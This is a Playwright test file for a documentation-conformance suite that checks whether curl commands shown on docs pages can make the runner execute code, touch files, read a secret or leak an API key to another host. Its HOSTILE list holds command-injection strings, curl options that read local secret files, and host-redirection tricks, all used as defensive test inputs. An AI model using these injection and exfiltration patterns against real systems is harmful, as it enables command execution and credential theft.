import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test as base } from '@playwright/test';
import { Outage } from '../../../../fixtures/model/disagreement.ts';
import { accessToApi } from '../../../../fixtures/palette/documented-calls.ts';
import { PaletteApi } from '../../../../fixtures/palette/api.ts';
import { OwnedKey } from '../../../../fixtures/palette/owned-keys.ts';
import { CallProblem, CallSession } from '../../../../fixtures/procedure/calls/call-session.ts';
import { Secrets } from '../../../../fixtures/secrets/secrets.ts';
import { callPage } from '../../support/call-pages.ts';
import { planPage } from '../../support/calls-page.ts';
import { makeCalls } from '../../support/made-calls.ts';
import { at } from '../../support/page.ts';

// What would have to break: what stands on a page makes the suite run a program, read or write a file, or tell a secret to
// another host than the API's.

interface Fixtures {
  /** A folder that nobody may write to, with a file that nobody may read. */
  folder: string;
  /** Starts a server and gives its address; it ends with the test. */
  serve: (listener: RequestListener) => Promise<string>;
}

const SECRET_IN_FILE = 'nobody-may-read-this';

const test = base.extend<Fixtures>({
  folder: async ({}, use) => {
    const folder = mkdtempSync(join(tmpdir(), 'calls-'));
    writeFileSync(join(folder, 'secret'), SECRET_IN_FILE);
    await use(folder);
    rmSync(folder, { recursive: true });
  },
  serve: async ({}, use) => {
    const servers: ReturnType<typeof createServer>[] = [];
    await use(async (listener) => {
      const server = createServer(listener);
      servers.push(server);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    for (const server of servers) server.close();
  },
});

const API = 'https://api.spectrocloud.com/v1/apiKeys';

/** Each with the folder's path and another host's address in it. */
const HOSTILE: ((folder: string, other: string) => string)[] = [
  (folder) => `touch ${folder}/run`,
  (folder) => `curl ${API} -H "apiKey: $(touch ${folder}/run)MY_KEY"`,
  (folder) => `curl ${API} -H "apiKey: MY_KEY\`touch ${folder}/run\`"`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' && touch ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY'; touch ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' | tee ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' > ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -o ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' --dump-header ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -c ${folder}/run`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -d @${folder}/secret`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -X GET --data-binary "@${folder}/secret"`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -H @${folder}/secret`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' -K ${folder}/secret`,
  (folder) => `curl -H 'apiKey: MY_KEY' file://${folder}/secret`,
  (folder) => `curl ${API} -H 'apiKey: MY_KEY' | jq --rawfile a ${folder}/secret '$a'`,
  (_, other) => `curl ${other}/v1/apiKeys -H 'apiKey: MY_KEY'`,
  (_, other) => `curl ${API} -H 'apiKey: MY_KEY' --proxy ${other}`,
  (_, other) => `curl ${API} -H 'apiKey: MY_KEY' --url ${other}`,
  (_, other) => `curl ${API} -H 'apiKey: MY_KEY' --next ${other} -H 'apiKey: MY_KEY'`,
  (_, other) => `curl ${API} -H 'apiKey: MY_KEY' --connect-to ::${other.slice('http://'.length)}`,
  (_, other) => `curl 'https://api.spectrocloud.com@${other.slice('http://'.length)}/' -H 'apiKey: MY_KEY'`,
  (_, other) => `curl 'https://api.spectrocloud.com\\@${other.slice('http://'.length)}/' -H 'apiKey: MY_KEY'`,
  (_, other) => `HOST=${other}\n   curl $HOST/v1/apiKeys -H 'apiKey: MY_KEY'`,
];

for (const [index, hostile] of HOSTILE.entries()) {
  const title = hostile('DIR', 'http://OTHER').replaceAll(/\s+/g, ' ');

  test(`runs, reads, writes and tells nothing for ${title} (${index + 1})`, async ({ folder, serve }) => {
    const received: string[] = [];
    const other = await serve(({ url }, response) => {
      received.push(url ?? '');
      response.end('{}');
    });
    const { exchanges, mock } = await makeCalls(callPage({ list: hostile(folder, other) }));
    expect(readdirSync(folder)).toEqual(['secret']);
    expect(received).toEqual([]);
    expect(JSON.stringify([exchanges, mock.log])).not.toContain(SECRET_IN_FILE);
  });
}

const KEY = new OwnedKey('docs-conformance-0-1', 'a'.repeat(24), 'value-that-nobody-may-see');

/** Makes the first call of a page at an API of our own. */
async function firstCall(apiUrl: string, list: string): Promise<unknown> {
  const { procedure, calls } = planPage(callPage({ list }), { endsLife: false });
  const secrets = new Secrets([KEY.reveal()]);
  const api = new PaletteApi(apiUrl, { secrets, timeouts: { firstPauseMs: 1, longestPauseMs: 2 } });
  const session = new CallSession({
    api: accessToApi(api, () => ({ key: KEY, controlKey: undefined })),
    guard: { endangeredBy: () => undefined },
    redact: (text) => secrets.redact(text),
    endsLife: false,
    atMostMs: 0,
  });
  const of = calls.ofStep.get(at(procedure.steps, 0));
  if (!of) throw new Error('No call is planned.');
  try {
    await session.perform(
      { ...of, calls: of.calls.map((call) => ({ ...call, examples: [] })) },
      () => undefined,
    );
    return undefined;
  } catch (error) {
    return error;
  }
}

const FOLLOWING = `curl -L ${API} -H 'apiKey: MY_KEY'`;

test('follows no redirect to another host', async ({ serve }) => {
  const received: string[] = [];
  const other = await serve(({ headers }, response) => {
    received.push(JSON.stringify(headers));
    response.end('{}');
  });
  const api = await serve((_, response) =>
    response.writeHead(302, { location: `${other}/v1/apiKeys` }).end(),
  );
  const error = await firstCall(api, FOLLOWING);
  expect(error).toBeInstanceOf(Outage);
  expect((error as Outage).kind).toBe('console-error');
  expect(received).toEqual([]);
});

test('follows a redirect on the same host where the command does', async ({ serve }) => {
  const received: string[] = [];
  const api = await serve(({ url }, response) => {
    received.push(url ?? '');
    if (url === '/v1/apiKeys') response.writeHead(307, { location: '/v2/apiKeys' }).end();
    else response.end('{}');
  });
  expect(await firstCall(api, FOLLOWING)).toBeUndefined();
  expect(received).toEqual(['/v1/apiKeys', '/v2/apiKeys']);
  const error = await firstCall(api, FOLLOWING.replace(' -L', ''));
  expect(error).toBeInstanceOf(CallProblem);
  expect((error as CallProblem).statement.kind).toBe('call-failed');
});

test('says what the API said without the secret that it repeats', async ({ serve }) => {
  const api = await serve(({ headers }, response) =>
    response
      .writeHead(403)
      .end(JSON.stringify({ code: 'No', message: `not with ${String(headers['apikey'])}` })),
  );
  const error = await firstCall(api, FOLLOWING);
  expect(String(error)).toContain('403, No: not with ***');
});
